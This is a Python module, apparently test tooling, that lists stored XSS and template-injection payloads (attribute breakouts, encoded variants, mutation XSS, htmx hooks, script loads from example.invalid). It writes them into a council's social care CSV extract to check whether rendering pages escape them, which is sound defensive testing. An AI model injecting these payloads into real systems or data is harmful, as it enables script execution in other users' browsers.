"""What somebody could write into a field, or into an export, to have it run in another person's browser.

Every element that a payload would make carries `data-stored`, and every script would set `window.hit`: a page on which
neither is found has shown the words as words.
"""

from __future__ import annotations

import csv
from itertools import cycle
from pathlib import Path

PAYLOADS = (
    # Plain elements.
    "<script data-stored>window.hit=1</script>",
    "<ScRiPt data-stored>window.hit=2</sCrIpT>",
    "<script data-stored src=//example.invalid/x.js></script>",
    "<img data-stored src=x onerror=window.hit=3>",
    "<svg data-stored onload=window.hit=4>",
    "<svg><animate data-stored onbegin=window.hit=5 attributeName=x dur=1s>",
    "<svg><script data-stored>window.hit=6</script></svg>",
    "<body data-stored onload=window.hit=7>",
    "<iframe data-stored srcdoc='<script>parent.hit=8</script>'></iframe>",
    "<details data-stored open ontoggle=window.hit=9>",
    "<input data-stored autofocus onfocus=window.hit=10>",
    "<video data-stored><source onerror=window.hit=11>",
    "<object data-stored data=javascript:window.hit=12></object>",
    "<a data-stored href=javascript:window.hit=13>here</a>",
    "<form data-stored action=javascript:window.hit=14><button>Go</button></form>",
    "<base data-stored href=//example.invalid/>",
    "<meta data-stored http-equiv=refresh content='0;url=javascript:window.hit=15'>",
    "<link data-stored rel=stylesheet href=//example.invalid/x.css>",
    # Out of an attribute, a title, a text field, a script, a comment.
    '" data-stored autofocus onfocus=window.hit=16 x="',
    "' data-stored autofocus onfocus=window.hit=17 x='",
    '"><script data-stored>window.hit=18</script>',
    "'><img data-stored src=x onerror=window.hit=19>",
    "</title><script data-stored>window.hit=20</script>",
    "</textarea><script data-stored>window.hit=21</script>",
    "</option></select><img data-stored src=x onerror=window.hit=22>",
    "</script><script data-stored>window.hit=23</script>",
    "--><script data-stored>window.hit=24</script>",
    "]]><script data-stored>window.hit=25</script>",
    # In other clothes.
    "&lt;script data-stored&gt;window.hit=26&lt;/script&gt;",
    "&#60;img data-stored src=x onerror=window.hit=27&#62;",
    "%3Cscript data-stored%3Ewindow.hit=28%3C/script%3E",
    "\\u003cscript data-stored\\u003ewindow.hit=29\\u003c/script\\u003e",
    "\uff1cscript data-stored\uff1ewindow.hit=30\uff1c/script\uff1e",
    "<img data-stored src=`x`onerror=window.hit=31>",
    "<<script data-stored>window.hit=32//<</script>",
    # Markdown, addresses, styles.
    "[here](javascript:window.hit=33)",
    '![x](x"onerror="window.hit=34)',
    "javascript:window.hit=35//",
    "data:text/html,<script data-stored>parent.hit=36</script>",
    "<style data-stored>*{background:url(//example.invalid/)}</style>",
    "</style><p data-stored style=position:fixed;inset:0>",
    # What a template, a script library or htmx would work out.
    "{{1337*1337}}{% debug %}",
    "${1337*1337}#{1337*1337}<%= 1337*1337 %>",
    "{{constructor.constructor('window.hit=37')()}}",
    "<p data-stored hx-get=/sign-out hx-trigger=load>",
    "<p data-stored hx-on:load=window.hit=38>",
    # Mark-up that a browser mends into something else.
    '<noscript><p title="</noscript><img data-stored src=x onerror=window.hit=39>">',
    "<math><mtext><table><mglyph><style><img data-stored src=x onerror=window.hit=40>",
    '<svg></p><style><a id="</style><img data-stored src=x onerror=window.hit=41>">',
    "<template data-stored shadowrootmode=open><script>window.hit=42</script></template>",
)
WORKED_OUT = "1787569"
"""What stands on a page where something worked the sum in a payload out."""

NAMES = {
    "ssd_professionals.csv": ("prof_professional_name",),
    "ssd_department.csv": ("dept_team_name",),
    "teams.csv": ("team_name", "service"),
    "hr_establishment_export.csv": ("Name", "Team"),
}
"""Names that stand in several files: each is changed alike wherever it stands."""
IDS = {
    "ssd_person.csv": ("pers_person_id", 6),
    "ssd_professionals.csv": ("prof_professional_id", 4),
    "ssd_department.csv": ("dept_team_id", 2),
    "hr_establishment_export.csv": ("Staff Number", 3),
}
"""Ids, so many of each, changed alike wherever they stand; one of a team with a stroke in it."""
TEXTS = {
    "pers_forename", "pers_surname", "pers_nationality", "clap_cla_placement_provider",
    "clap_cla_placement_postcode", "clap_cla_placement_urn", "earl_episode_organisation", "earl_episode_reason",
    "cine_referral_source_desc", "cont_contact_source_desc", "prep_court_reference", "clae_cla_id",
    "Agreed Action", "withdrawal_reason", "theme", "action_required", "outcome", "SWE Number", "Absence Reason",
    "guard", "kind", "Case Note ID", "pers_upn", "invo_worker_change_reason",
}  # fmt: skip
"""Columns whose every third cell is one of the payloads."""


def poison(folder: Path) -> None:
    """Writes the payloads into a council's extract: names and ids alike everywhere, texts, and a cell of every column."""
    tables = {path: _read(path) for path in sorted(folder.rglob("*.csv"))}
    words, changed = cycle(PAYLOADS), {}
    for path, (_, rows) in tables.items():
        for column in NAMES.get(path.name, ()):
            for value in sorted({row[column] for row in rows} - {""}):
                changed.setdefault(value, f"{value} {next(words)}")
        if path.name in IDS:
            column, many = IDS[path.name]
            for value in sorted({row[column] for row in rows})[-many:]:
                changed.setdefault(value, f"{value}/{next(words)}"[:100])
    for path, (headings, rows) in tables.items():
        for number, row in enumerate(rows):
            for place, column in enumerate(headings):
                if row[column] in changed:
                    row[column] = changed[row[column]]
                elif (column in TEXTS and number % 3 == 0) or number % 97 == place + 40:
                    row[column] = next(words)
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, headings)
            writer.writeheader()
            writer.writerows(rows)


def _read(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        reader = csv.DictReader(file)
        return list(reader.fieldnames), list(reader)
